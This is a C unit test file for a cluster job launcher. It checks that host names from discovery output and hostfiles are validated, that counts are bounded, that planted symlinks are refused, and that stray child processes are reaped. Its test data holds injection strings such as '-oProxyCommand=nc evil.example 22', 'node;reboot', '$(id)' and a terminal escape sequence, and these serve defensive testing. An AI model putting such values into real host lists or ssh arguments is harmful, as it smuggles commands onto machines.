/*
 * test_launcher_hostile.c - the fleet's input is data, and hostile data stops
 * at the launcher (issue 18): host names that are options or shell
 * (-oProxyCommand=..., ';', $( ), blanks, non-ASCII, escape sequences) never
 * reach the list handed to mpirun and never reach a message raw; slot counts
 * and the number of hosts are bounded; an endless discovery output is stopped
 * at the cap, long before its timeout; files the launcher creates on the
 * shared volume do not follow links planted there and are not world-writable;
 * a NUL byte in a hostfile or discovery output is refused with its place; a
 * child's stray rsh agent does not outlive it.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "discovery.h"
#include "events.h"
#include "hosts.h"
#include "proc.h"
#include "util.h"

/* No byte of the warnings is a control character (but newline) or non-ASCII. */
static void assert_printable(const char *s)
{
	for (; *s; s++)
		if (*s != '\n' && ((unsigned char)*s < 0x20 || (unsigned char)*s >= 0x7f))
			fail_msg("warning holds byte 0x%02x", (unsigned char)*s);
}

static void hostile_names_never_reach_the_list(void **unused)
{
	(void)unused;
	const char *text = "good-1:2\n"
			   "-oProxyCommand=sh:1\n"
			   "-oProxyCommand=nc evil.example 22\n"
			   "node;reboot:1\n"
			   "$(id):1\n"
			   "`id`\n"
			   "n\xc3\xb6" "de:1\n"
			   "node\x1b]0;pwned\x07:1\n"
			   "a b:1\n"
			   "..:1\n"
			   "_x\n"
			   "good.example.com\n";
	char warn[2048];
	host_list l;
	host_list_init(&l);
	int bad = hosts_parse_discovery(text, &l, warn, sizeof warn);
	assert_int_equal(bad, 10);
	assert_int_equal(l.n, 2);
	assert_string_equal(l.v[0].name, "good-1");
	assert_string_equal(l.v[1].name, "good.example.com");
	assert_printable(warn);
	assert_non_null(strstr(warn, "is not a usable host name"));
	/* the hostfile format: the same names are refused */
	bad = hosts_parse_hostfile("-oProxyCommand=sh slots=1\nn\xc3\xb6" "de slots=2\nok slots=1\n$(reboot)\n", &l, warn,
				   sizeof warn);
	assert_int_equal(bad, 3);
	assert_int_equal(l.n, 1);
	assert_string_equal(l.v[0].name, "ok");
	assert_printable(warn);
	/* and by the check itself, whatever the locale */
	assert_false(host_name_valid("-x"));
	assert_false(host_name_valid("\xe9" "t\xe9"));
	assert_false(host_name_valid(""));
	host_list_free(&l);
}

static void slot_counts_are_bounded(void **unused)
{
	(void)unused;
	char warn[1024];
	host_list l;
	host_list_init(&l);
	int bad = hosts_parse_discovery("a:0\na:4097\na:-1\na:99999999999999999999\nb:4096\nb:4096\n", &l, warn,
					sizeof warn);
	assert_int_equal(bad, 4);
	assert_int_equal(l.n, 1);
	assert_int_equal(l.v[0].slots, HOST_MAX_SLOTS); /* repeated: added, then capped */
	bad = hosts_parse_hostfile("c slots=5000\nd slots=0\ne slots=2 max_slots=99999\n", &l, warn, sizeof warn);
	assert_int_equal(bad, 3);
	assert_int_equal(l.n, 0);
	host_list_free(&l);
}

static void host_count_is_bounded(void **unused)
{
	(void)unused;
	size_t n = 5000;
	char *text = malloc(n * 16), *p = text, warn[512];
	for (size_t i = 0; i < n; i++)
		p += sprintf(p, "h%zu:2\n", i);
	host_list l;
	host_list_init(&l);
	double t0 = now_mono();
	assert_int_equal(hosts_parse_discovery(text, &l, warn, sizeof warn), (int)n - HOST_MAX_HOSTS);
	assert_true(now_mono() - t0 < 30); /* bounded work (a generous bound: it takes ms) */
	assert_int_equal(l.n, HOST_MAX_HOSTS);
	assert_non_null(strstr(warn, "more than 4096 hosts"));
	host_list_free(&l);
	free(text);
}

static void endless_discovery_output_is_stopped_at_the_cap(void **unused)
{
	(void)unused;
	char *out = NULL;
	int st = 0;
	char *yes[] = {"yes", "node-1:1", NULL};
	double t0 = now_mono();
	assert_int_equal(proc_run_capture(yes, 60, 1 << 20, &out, &st), EFBIG);
	assert_null(out);
	assert_true(now_mono() - t0 < 30); /* stopped at the cap, not at the 60 s timeout */
	/* through discovery: the read fails, the last good list (none yet) stays */
	discovery d;
	assert_int_equal(discovery_init_command(&d, "yes node-1:1", 60, 1), 0);
	bool changed = true;
	assert_int_equal(discovery_poll(&d, now_mono(), true, &changed), -1);
	assert_false(changed);
	assert_int_equal(d.hosts.n, 0);
	discovery_free(&d);
}

/* A symlink at path pointing at a file holding "keep". */
static void plant_link(const char *dir, const char *name, char *victim, size_t len)
{
	char link[512];
	snprintf(victim, len, "%s/victim-%s", dir, name);
	snprintf(link, sizeof link, "%s/%s", dir, name);
	FILE *f = fopen(victim, "w");
	assert_non_null(f);
	fputs("keep", f);
	fclose(f);
	assert_int_equal(symlink(victim, link), 0);
}

static void assert_holds_keep(const char *path)
{
	char *text = NULL;
	assert_int_equal(read_file(path, 64, &text, NULL), 0);
	assert_string_equal(text, "keep");
	free(text);
}

static void volume_files_follow_no_link_and_are_not_world_writable(void **unused)
{
	(void)unused;
	char dir[] = "/tmp/spotlaunch-hostile-XXXXXX", victim[512], path[512];
	assert_non_null(mkdtemp(dir));
	mode_t old = umask(0);
	/* events.jsonl planted as a link: the append is refused, the target untouched */
	plant_link(dir, RUN_EVENTS_FILE, victim, sizeof victim);
	assert_int_equal(events_append(dir, "probe", NULL), -1);
	assert_holds_keep(victim);
	/* state.json.tmp planted as a link: the atomic write replaces the link, not its target */
	plant_link(dir, "state.json.tmp", victim, sizeof victim);
	snprintf(path, sizeof path, "%s/state.json", dir);
	assert_int_equal(write_file_atomic(path, "{}", 2), 0);
	assert_holds_keep(victim);
	struct stat st;
	assert_int_equal(lstat(path, &st), 0);
	assert_true(S_ISREG(st.st_mode));
	assert_int_equal(st.st_mode & S_IWOTH, 0);
	/* a fresh events.jsonl, even under umask 0 */
	char dir2[] = "/tmp/spotlaunch-hostile-XXXXXX";
	assert_non_null(mkdtemp(dir2));
	assert_int_equal(events_append(dir2, "probe", NULL), 0);
	snprintf(path, sizeof path, "%s/%s", dir2, RUN_EVENTS_FILE);
	assert_int_equal(stat(path, &st), 0);
	assert_int_equal(st.st_mode & S_IWOTH, 0);
	umask(old);
	char *rm[] = {"rm", "-rf", dir, dir2, NULL}, *out = NULL;
	int rst;
	assert_int_equal(proc_run_capture(rm, 10, 1024, &out, &rst), 0);
	free(out);
}

/* A NUL byte would silently end the text: refused with its place, the last list kept. */
static void nul_bytes_are_refused_with_their_place(void **unused)
{
	(void)unused;
	static const char text[] = "a:1\nbb\0c:1\nd:1\n";
	size_t off = 0, col = 0;
	int line_no = 0;
	assert_true(hosts_find_nul(text, sizeof text - 1, &off, &line_no, &col));
	assert_int_equal(off, 6);
	assert_int_equal(line_no, 2);
	assert_int_equal(col, 3);
	assert_false(hosts_find_nul("a:1\nb:1\n", 8, &off, &line_no, &col));

	char dir[] = "/tmp/spotlaunch-nul-XXXXXX", path[64];
	assert_non_null(mkdtemp(dir));
	snprintf(path, sizeof path, "%s/hosts", dir);
	FILE *f = fopen(path, "wb");
	assert_non_null(f);
	fwrite("a slots=1\nb\0 slots=1\nc slots=1\n", 1, 31, f);
	fclose(f);
	discovery d;
	assert_int_equal(discovery_init_hostfile(&d, path), 0);
	bool changed = true;
	assert_int_equal(discovery_poll(&d, now_mono(), true, &changed), -1);
	assert_false(changed);
	assert_int_equal(d.hosts.n, 0);
	f = fopen(path, "wb");
	assert_non_null(f);
	fputs("a slots=1\nc slots=1\n", f); /* a clean file is taken again */
	fclose(f);
	assert_int_equal(discovery_poll(&d, now_mono(), true, &changed), 0);
	assert_true(changed);
	assert_int_equal(d.hosts.n, 2);
	discovery_free(&d);
	unlink(path);
	rmdir(dir);

	/* a command's output: printf writes a NUL after the first host */
	assert_int_equal(discovery_init_command(&d, "printf a:1\\0b:1\\n", 10, 1), 0);
	assert_int_equal(discovery_poll(&d, now_mono(), true, &changed), -1);
	assert_int_equal(d.hosts.n, 0);
	discovery_free(&d);
}

/*
 * Open MPI puts each rsh agent in a process group of its own, so killing
 * mpirun's group leaves an agent hung on an unreachable host behind. A process
 * spawned with new_group leads a session: proc_reap_session() kills whatever is
 * left of it once the process has ended, whatever group it moved to.
 */
static void an_ended_child_leaves_no_stray_in_its_session(void **unused)
{
	(void)unused;
	char path[] = "/tmp/spotlaunch-stray-XXXXXX";
	int fd = mkstemp(path);
	assert_true(fd >= 0);
	char *argv[] = {"perl", "-e",
			"$| = 1; my $p = fork(); if (!$p) { setpgrp(0, 0); exec 'sleep', '300'; } "
			"setpgrp($p, $p); print \"$p\\n\";",
			NULL};
	spawn_opts o = {.argv = argv, .stdout_fd = fd, .stderr_fd = -1, .new_group = true};
	pid_t pid;
	assert_int_equal(proc_spawn(&o, &pid), 0);
	close(fd);
	int st = 0;
	double deadline = now_mono() + 60;
	bool ended = false;
	pid_t stray = 0;
	while (!ended && now_mono() < deadline) {
		if (!stray) { /* its own group, alive, before perl is reaped (the test can fail) */
			char *txt = NULL;
			if (read_file(path, 64, &txt, NULL) == 0 && strchr(txt, '\n')) {
				stray = (pid_t)atoi(txt);
				assert_true(stray > 0);
				assert_true(proc_start_ticks(stray) != 0);
				assert_int_equal(getpgid(stray), stray);
				assert_int_equal(getsid(stray), pid);
			}
			free(txt);
		}
		ended = stray && proc_reap_session(pid, &st);
		if (!ended)
			usleep(20 * 1000);
	}
	assert_true(ended);
	assert_true(WIFEXITED(st) && WEXITSTATUS(st) == 0);
	while (proc_start_ticks(stray) != 0 && now_mono() < deadline)
		usleep(20 * 1000);
	bool gone = proc_start_ticks(stray) == 0; /* killed (gone, or a zombie of init's) */
	if (!gone)
		kill(stray, SIGKILL); /* leave nothing behind even when failing */
	assert_true(gone);
	unlink(path);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(hostile_names_never_reach_the_list),
		cmocka_unit_test(slot_counts_are_bounded),
		cmocka_unit_test(host_count_is_bounded),
		cmocka_unit_test(endless_discovery_output_is_stopped_at_the_cap),
		cmocka_unit_test(volume_files_follow_no_link_and_are_not_world_writable),
		cmocka_unit_test(nul_bytes_are_refused_with_their_place),
		cmocka_unit_test(an_ended_child_leaves_no_stray_in_its_session),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
